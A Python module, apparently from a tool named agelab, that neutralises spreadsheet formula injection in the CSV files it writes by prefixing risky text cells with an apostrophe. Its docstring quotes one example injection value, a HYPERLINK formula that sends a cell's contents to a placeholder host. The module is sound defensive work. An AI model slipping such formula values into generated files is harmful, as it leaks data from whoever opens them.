"""CSV files agelab writes open safely in a spreadsheet: no cell runs as a formula.

Excel, LibreOffice and Google Sheets evaluate a cell that starts with ``=``, ``+``, ``-`` or
``@`` (and, after a tab or carriage return, what follows) as a formula, so a file name or
subject id such as ``=HYPERLINK("http://x/?"&A1)`` in a dataset would run when someone opens
``predictions.csv``. Such *text* cells get a leading ``'`` (the spreadsheet convention for
"this is text", shown by no spreadsheet); numbers stay numbers, and text that is a plain
number (``-3.5``) is left alone, since a spreadsheet reads it as that number anyway.

Used for ``predictions.csv`` (per trial), the report's ``runs.csv`` and ``agelab data synth
--out``'s ``labels.csv``.
"""

from __future__ import annotations

import re
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    import pandas as pd

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)(?:[eE][+-]?[0-9]+)?")


def safe_cell(value: Any) -> Any:
    """``value`` unchanged unless it is text a spreadsheet would run as a formula; that gets a
    leading ``'``."""
    risky = isinstance(value, str) and value.startswith(FORMULA_START)
    return "'" + value if risky and not _PLAIN_NUMBER.fullmatch(value) else value


def safe_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` with :func:`safe_cell` applied to every text column (object or
    string dtype, pandas' ``str`` included); numeric columns are untouched. Column names are
    made safe too."""
    from pandas.api.types import is_object_dtype, is_string_dtype

    out = frame.copy()
    for column in out.columns:
        if is_object_dtype(out[column]) or is_string_dtype(out[column]):
            out[column] = out[column].map(safe_cell)
    out.columns = [safe_cell(c) for c in out.columns]
    return out
